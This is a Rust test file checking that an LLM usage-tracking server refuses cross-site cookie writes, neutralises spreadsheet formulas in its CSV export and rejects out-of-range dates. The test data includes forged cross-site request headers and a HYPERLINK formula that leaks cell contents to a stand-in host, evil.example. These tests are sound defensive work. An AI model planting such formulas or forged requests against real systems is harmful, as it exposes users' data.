//! Red-team findings at the server's edges (issue 11), each on a real server:
//! cross-site writes with the session cookie, formulas in the CSV export,
//! export dates beyond the timestamp range. (Key revocation across replicas
//! and forged log lines need the `llmlab serve` process: the CLI crate's
//! `server_replicas` and `server_log` tests.)

use llmlab_test_support::{Api, Reply, TestApp};
use reqwest::{Method, StatusCode};
use serde_json::json;

use crate::server_test;

/// Opens a dashboard session with `key`: the token its cookie holds.
async fn open_session(server: &TestApp, key: &str) -> String {
    let signed_in = Api::anonymous(server).post("/api/auth/session", json!({ "api_key": key })).await;
    assert_eq!(signed_in.status, StatusCode::OK, "{}", signed_in.text);
    let cookie = signed_in.headers["set-cookie"].to_str().unwrap();
    cookie.split(';').next().unwrap().trim_start_matches("llmlab_session=").to_owned()
}

/// A request signed in with the dashboard's session cookie holding `token`
/// (as a browser sends it), with extra `headers` and an optional JSON body.
async fn with_cookie(
    server: &TestApp,
    token: &str,
    method: Method,
    path: &str,
    headers: &[(&str, &str)],
    body: Option<serde_json::Value>,
) -> Reply {
    let mut request = reqwest::Client::new()
        .request(method, format!("{}{path}", server.base_url))
        .header("cookie", format!("theme=dark; llmlab_session={token}"));
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    if let Some(body) = body {
        request = request.body(body.to_string());
    }
    let response = request.send().await.expect("the server answers");
    let status = response.status();
    let headers = response.headers().clone();
    let text = response.text().await.expect("a body");
    let body = serde_json::from_str(&text).unwrap_or(serde_json::Value::Null);
    Reply { status, body, text, headers }
}

const EVIL: [(&str, &str); 2] = [("origin", "http://evil.example"), ("sec-fetch-site", "cross-site")];

server_test!(cookie_writes_from_another_site_are_refused, |server| async move {
    let alice = Api::signup(&server, "alice").await;
    let key = alice.key.clone().unwrap();
    let cookie = open_session(&server, &key).await;
    let own_key = format!("/api/keys/{}", &key[..12]);
    let writes = [
        (Method::POST, "/api/budgets", json!({ "amount_usd": "1" })),
        (Method::DELETE, "/api/budgets", json!({})),
        (Method::POST, "/api/keys", json!({ "name": "attacker" })),
        (Method::DELETE, own_key.as_str(), json!({})),
        (
            Method::POST,
            "/api/prices",
            json!({ "model": "m", "input_per_million_usd": "1", "output_per_million_usd": "1" }),
        ),
        (Method::DELETE, "/api/prices/m", json!({})),
        (Method::POST, "/api/events/track", json!({ "provider": "openai", "model": "gpt-4o", "input_tokens": 1 })),
        (Method::POST, "/api/events/batch", json!({ "events": [] })),
        (Method::PATCH, "/api/account", json!({ "hard_budget": true })),
    ];

    // As the red team sent them: no Content-Type, cross-site headers.
    for (method, path, body) in writes {
        let reply = with_cookie(&server, &cookie, method.clone(), path, &EVIL, Some(body)).await;
        assert_eq!(
            (reply.status, reply.code()),
            (StatusCode::FORBIDDEN, "cross_site_request"),
            "{method} {path}: {}",
            reply.text
        );
        assert!(reply.message().contains("Authorization: Bearer"), "the message says what to do: {}", reply.message());
    }
    let other_port = format!("http://127.0.0.1:{}", server.port() + 1);
    let refusals: [&[(&str, &str)]; 6] = [
        &[("origin", "http://evil.example")],
        &[("sec-fetch-site", "same-site")], // another port on this host is the "same site"
        &[("origin", other_port.as_str())],
        &[("origin", "null")],
        &[("origin", server.base_url.as_str()), ("sec-fetch-site", "cross-site")],
        &[], // no sign of where it comes from
    ];
    for headers in refusals {
        let reply =
            with_cookie(&server, &cookie, Method::POST, "/api/budgets", headers, Some(json!({ "amount_usd": "1" })))
                .await;
        assert_eq!(
            (reply.status, reply.code()),
            (StatusCode::FORBIDDEN, "cross_site_request"),
            "{headers:?}: {}",
            reply.text
        );
    }

    // Nothing changed.
    assert_eq!(alice.get("/api/budgets").await.body["budget"], serde_json::Value::Null);
    assert_eq!(alice.get("/api/keys").await.body.as_array().map(Vec::len), Some(1));
    assert_eq!(alice.get("/api/prices").await.body, json!([]));
    assert_eq!(alice.get("/api/account").await.body["hard_budget"], false);
    assert_eq!(alice.get("/api/costs/summary").await.body["all_time_calls"], 0);
});

server_test!(the_dashboards_own_requests_and_header_keys_still_work, |server| async move {
    let alice = Api::signup(&server, "alice").await;
    let key = alice.key.clone().unwrap();
    let cookie = open_session(&server, &key).await;
    let json_type = ("content-type", "application/json");
    let budget = || Some(json!({ "amount_usd": "5" }));

    // What the dashboard's fetch() sends, and what older browsers send (Origin only, or Sec-Fetch-Site only).
    let browser = [("origin", server.base_url.as_str()), ("sec-fetch-site", "same-origin"), json_type];
    for headers in [&browser[..], &[browser[0], json_type], &[browser[1], json_type]] {
        let set = with_cookie(&server, &cookie, Method::POST, "/api/budgets", headers, budget()).await;
        assert!(set.status.is_success(), "{headers:?}: {}", set.text);
    }
    let created =
        with_cookie(&server, &cookie, Method::POST, "/api/keys", &browser, Some(json!({ "name": "laptop" }))).await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.text);
    let removed = with_cookie(&server, &cookie, Method::DELETE, "/api/budgets", &browser[..2], None).await;
    assert_eq!(removed.status, StatusCode::OK, "{}", removed.text);

    // Reads with the cookie are not affected: another site cannot read the answer anyway.
    let read = with_cookie(&server, &cookie, Method::GET, "/api/budgets", &EVIL, None).await;
    assert_eq!(read.status, StatusCode::OK, "{}", read.text);

    // A key in a header is never the browser's doing, whatever the page.
    let mut request = reqwest::Client::new()
        .post(format!("{}/api/budgets", server.base_url))
        .bearer_auth(&key)
        .header("content-type", "application/json")
        .body(json!({ "amount_usd": "7" }).to_string());
    for (name, value) in EVIL {
        request = request.header(name, value);
    }
    let bearer = request.send().await.unwrap();
    assert_eq!(bearer.status(), StatusCode::CREATED);
    let track = reqwest::Client::new()
        .post(format!("{}/api/events/track", server.base_url))
        .header("x-llmlab-key", &key)
        .header("content-type", "application/json")
        .header("origin", "http://evil.example")
        .header("sec-fetch-site", "cross-site")
        .body(json!({ "provider": "openai", "model": "gpt-4o", "input_tokens": 1 }).to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(track.status(), StatusCode::CREATED);
});

/// The export's rows, parsed as a spreadsheet would read the CSV.
fn export_rows(text: &str) -> Vec<csv::StringRecord> {
    csv::Reader::from_reader(text.as_bytes()).records().map(|r| r.expect("valid CSV")).collect()
}

server_test!(export_neutralises_formulas_in_text_cells_and_keeps_numbers, |server| async move {
    let alice = Api::signup(&server, "alice").await;
    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
    let tracked = alice
        .post(
            "/api/events/track",
            json!({ "provider": "+custom", "model": formula, "event_id": "-1+1", "project": "@SUM(A1)",
                    "status": "=1,2", "input_tokens": 1000, "output_tokens": 5, "latency_ms": 12 }),
        )
        .await;
    assert_eq!(tracked.status, StatusCode::CREATED, "{}", tracked.text);
    let priced = alice
        .post("/api/events/track", json!({ "provider": "openai", "model": "gpt-4o", "input_tokens": 1_000_000 }))
        .await;
    assert_eq!(priced.status, StatusCode::CREATED, "{}", priced.text);

    let export = alice.get("/api/events/export").await;

    assert_eq!(export.status, StatusCode::OK, "{}", export.text);
    let rows = export_rows(&export.text);
    let risky = rows.iter().find(|r| r.get(1) == Some("'-1+1")).unwrap_or_else(|| panic!("{}", export.text));
    let header = csv::Reader::from_reader(export.text.as_bytes()).headers().expect("a header").clone();
    let column = |name: &str| header.iter().position(|h| h == name).unwrap_or_else(|| panic!("no `{name}` column"));
    let cells: Vec<&str> = risky.iter().collect();
    assert_eq!(&cells[1..5], ["'-1+1", "'+custom", &format!("'{formula}"), "'@SUM(A1)"], "{}", export.text);
    assert_eq!(cells[column("status")], "'=1,2");
    let numbers = [column("input_tokens"), column("output_tokens"), column("cost_usd"), column("latency_ms")];
    assert_eq!(numbers.map(|i| cells[i]), ["1000", "5", "", "12"], "numbers stay numbers");
    let gpt = rows.iter().find(|r| r.get(3) == Some("gpt-4o")).unwrap();
    let (input, cost) = (column("input_tokens"), column("cost_usd"));
    assert_eq!((gpt.get(input), gpt.get(cost)), (Some("1000000"), Some("2.5")), "{}", export.text);
    for row in &rows {
        assert!(!row.iter().any(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{row:?}");
    }
});

server_test!(export_dates_beyond_the_timestamp_range_are_a_422, |server| async move {
    let alice = Api::signup(&server, "alice").await;
    alice.post("/api/events/track", json!({ "provider": "openai", "model": "gpt-4o", "input_tokens": 1 })).await;

    for (query, field) in [
        ("to=9999-12-31", "to"),
        ("from=-009999-01-01", "from"),
        ("from=9999-12-31", "from"),
        ("from=2026-01-01&to=9999-12-31&tz=Pacific/Kiritimati", "to"),
        ("from=-009999-01-01&to=2026-01-01&tz=America/New_York", "from"),
    ] {
        let reply = alice.get(&format!("/api/events/export?{query}")).await;
        assert_eq!(
            (reply.status, reply.code()),
            (StatusCode::UNPROCESSABLE_ENTITY, "invalid_field"),
            "{query}: {}",
            reply.text
        );
        assert!(reply.message().starts_with(&format!("`{field}`: ")), "{query}: {}", reply.message());
    }
    // Wide ranges that are still times work, and hold the event.
    let wide = alice.get("/api/events/export?from=0001-01-01&to=9999-12-01").await;
    assert_eq!(wide.status, StatusCode::OK, "{}", wide.text);
    assert_eq!(export_rows(&wide.text).len(), 1, "{}", wide.text);
});
